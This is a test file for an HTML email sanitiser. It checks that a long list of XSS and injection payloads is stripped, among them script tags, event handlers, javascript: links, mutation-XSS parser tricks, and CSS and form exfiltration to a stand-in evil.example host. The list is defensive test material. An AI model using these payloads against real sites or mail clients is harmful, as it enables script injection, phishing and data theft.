import { describe, expect, test } from 'vitest'
import { sanitiseMail } from './html.ts'
import { escapeHtml, htmlOfText, plainText } from './plain-text.ts'

// What a browser would do with it is asked in a real one; here: nothing that runs, fetches, places or names anything
// is left in the text, however it was written.
const dangers = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt src=//x.example></sCrIpT>',
    '<script\x20type="text/javascript">x</script>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\x0b=alert(1)>',
    '<img """><script>x</script>">',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg><script>x</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mi xlink:href="javascript:x">m</mi></math>',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
  ],
  ...[
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>x</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
  ],
  ...[
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>x</script>">',
    '<object data="x"></object>',
    '<embed src=x>',
    '<applet code=x>',
  ],
  ...[
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<input autofocus onfocus=x>',
    '<textarea><script>x</script></textarea>',
    '<select><option><script>x</script></select>',
  ],
  ...[
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
  ],
  ...[
    '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background-image:url(x)">x</p>',
  ],
  ...[
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:red;-moz-binding:url(x)">x</p>',
    '<p style="color:r\\65 d;background:\\75 rl(x)">x</p>',
  ],
  ...[
    '<img srcset="https://evil.example/x 2x" src="https://evil.example/y">',
    '<picture><source srcset="https://evil.example/x"></picture>',
    '<video poster=https://evil.example/x src=https://evil.example/y autoplay>',
    '<audio src=x>',
    '<track src=x>',
  ],
  ...[
    '<table background="https://evil.example/x"><td background="https://evil.example/y">x</td></table>',
    '<body background="https://evil.example/x" onload=x>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html;base64,eA==">',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><script>x</script>">',
    '<template><script>x</script></template>',
    '<plaintext><script>x</script>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ...[
    '<p id=location name=cookie class="modal">x</p>',
    '<a name=body href=#>x</a>',
    '<form id=document><input name=createElement></form>',
  ],
  ...[
    '<!--[if mso]><script>x</script><![endif]-->',
    '<![CDATA[<script>x</script>]]>',
    '<?xml-stylesheet href="javascript:x"?>',
    '<v:shape><v:imagedata src="https://evil.example/x"/></v:shape>',
    '<o:p onclick=x>x</o:p>',
  ],
  ...[
    '<a href="https://good.example@evil.example/">bank</a>',
    '<p\u0000onclick=x>x</p>',
    '<p onclick="x" ONMOUSEOVER=x>x</p>',
    '<div dir=rtl onpointerenter=x>x</div>',
    '<details ontoggle=x open>x</details>',
    '<marquee onstart=x>x</marquee>',
    '<keygen onfocus=x autofocus>',
    '<isindex action=javascript:x>',
  ],
  ...[
    '<a target=_top href="https://x.example">x</a>',
    '<a href="https://x.example" ping="https://evil.example" download>x</a>',
    '<img src=cid:x lowsrc=javascript:x dynsrc=x usemap=#x>',
    '<map name=x><area href=javascript:x></map>',
  ],
]

const allowedTags = new Set(
  `a abbr b bdi bdo blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption figure h1 h2 h3 h4
  h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead time
  tr u ul var wbr`.split(/\s+/),
)
const allowedAttributes = new Set(
  `align alt bgcolor border cellpadding cellspacing class colspan data-remote-src datetime dir height href lang rel
  reversed rowspan scope span src start style target title type valign value width`.split(/\s+/),
)

/** Takes the text apart as strictly as it is written: tags with quoted values, and text without any bracket. */
const isSafe = (html: string): true | string => {
  let rest = html
  for (let tag = tagAt(rest); tag; tag = tagAt(rest)) {
    if (!allowedTags.has(tag.name)) return `the tag ${tag.name}`
    for (const [name, value] of tag.attributes) {
      if (!allowedAttributes.has(name)) return `the attribute ${name}`
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(value)) return `a link to ${value}`
      if (name === 'src' && !/^data:image\/(?:png|jpe?g|gif|webp);base64,/.test(value))
        return `a picture at ${value}`
      if (name === 'style' && /url|expression|position|behavior|binding|import|\\|@/i.test(value))
        return `the style ${value}`
      if (name === 'class' && value !== 'quoted') return `the class ${value}`
    }
    rest = rest.slice(tag.end)
  }
  return /[<>]/.test(rest) ? `a bracket in ${rest.slice(0, 80)}` : true
}

const tagAt = (html: string) => {
  const found = /^[^<>]*<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*) ?\/?>/.exec(html)
  if (!found) return null
  const [all, , name = '', attributes = ''] = found
  return {
    name,
    end: all.length,
    attributes: [...attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(
      ([, key = '', value = '']) => [key, value] as const,
    ),
  }
}

describe('foreign HTML is safe to read (R14, R16, B5)', () => {
  test.each(dangers.map(html => [html]))('%s', html => {
    for (const wrapped of [
      html,
      `<div>${html}</div>`,
      `<table><tr><td>${html}</td></tr></table>`,
      `<p title='a">'>${html}`,
    ]) {
      const safe = sanitiseMail(wrapped)
      expect(isSafe(safe)).toBe(true)
      // Nothing becomes dangerous by being cleaned twice.
      expect(isSafe(sanitiseMail(safe))).toBe(true)
    }
  })

  test('any 3,000 mixtures of them', () => {
    let seed = 4711
    const next = (below: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
      return seed % below
    }
    for (let round = 0; round < 3_000; round += 1) {
      const [one = '', two = ''] = [dangers[next(dangers.length)], dangers[next(dangers.length)]]
      const cut = next(one.length + 1)
      const safe = sanitiseMail(one.slice(0, cut) + two + one.slice(cut))
      expect(isSafe(safe)).toBe(true)
    }
  })

  test('links say where they lead, and lead there in a window of their own', () => {
    expect(sanitiseMail('<a href="https://evil.example/login">www.bank.example</a>')).toBe(
      '<a href="https://evil.example/login" title="evil.example" target="_blank" rel="noopener noreferrer nofollow">www.bank.example</a>',
    )
    expect(sanitiseMail('<a href="mailto:kim@acme.example">Kim</a>')).toContain(
      'href="mailto:kim@acme.example"',
    )
    expect(sanitiseMail('<a href="https://good.example@evil.example/">x</a>')).toContain(
      'href="https://evil.example/"',
    )
  })

  test('pictures of the mail itself are shown, those from elsewhere wait for consent', () => {
    const html =
      '<img src="cid:logo@acme" alt="Acme"><img src="https://track.example/p.gif"><img src="cid:unknown">'
    const safe = sanitiseMail(html, { 'logo@acme': '/api/v1/files/1' })
    expect(safe).toContain('<img alt="Acme" src="/api/v1/files/1" />')
    expect(safe).toContain('<img data-remote-src="https://track.example/p.gif" />')
    expect(safe).not.toContain('unknown')
  })

  test('quoted mail is marked, whatever program wrote it', () => {
    for (const html of [
      '<div class="gmail_quote">x</div>',
      '<blockquote type="cite">x</blockquote>',
      '<div id="divRplyFwdMsg">x</div>',
      '<div id="appendonsend">x</div>',
    ])
      expect(sanitiseMail(html)).toContain('class="quoted"')
    expect(sanitiseMail('<blockquote>my own words</blockquote>')).not.toContain('quoted"')
  })

  test('ordinary letters keep how they look', () => {
    const html =
      '<h2>Title</h2><p style="color:#336699;font-size:12pt">Hello <b>Kim</b></p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>'
    expect(sanitiseMail(html)).toBe(
      '<h2>Title</h2><p style="color:#336699;font-size:12pt">Hello <b>Kim</b></p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>',
    )
  })

  test.each([
    ['deep nesting', '<div>'.repeat(20_000)],
    ['Word lists', '<p style="mso-list:l0 level1 lfo1;margin-left:.5in"><![if !supportLists]>'.repeat(2_000)],
    ['attributes', `<p ${'a=b '.repeat(50_000)}>`],
    ['entities', '&amp;'.repeat(150_000)],
    ['an open tag', `<a href="${'x'.repeat(900_000)}`],
    ['open brackets', '<'.repeat(300_000)],
    ['styles', `<p style="${'color:red;'.repeat(20_000)}">`],
  ])('a megabyte of %s is read within two seconds (R28)', (_name, html) => {
    const began = performance.now()
    sanitiseMail(html)
    expect(performance.now() - began).toBeLessThan(2_000)
  })
})

describe('between HTML and plain text', () => {
  test('an HTML mail is told in lines, lists and quotes', () => {
    const html =
      '<head><title>no</title><style>p{}</style></head><p>Hello&nbsp;Kim,<br>two</p><ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote><pre>a\n  b</pre>'
    expect(plainText(html)).toBe('Hello Kim,\ntwo\n\n- one\n- two\n\n> quoted\n\na\n  b')
  })

  test('text becomes HTML without becoming markup', () => {
    expect(htmlOfText('a < b\n& c\n\n<script>')).toBe('<p>a &lt; b<br>&amp; c</p>\n<p>&lt;script&gt;</p>')
    expect(escapeHtml(`"'<>&`)).toBe('&quot;&#39;&lt;&gt;&amp;')
    expect(plainText(htmlOfText('a < b\n& c'))).toBe('a < b\n& c')
  })
})
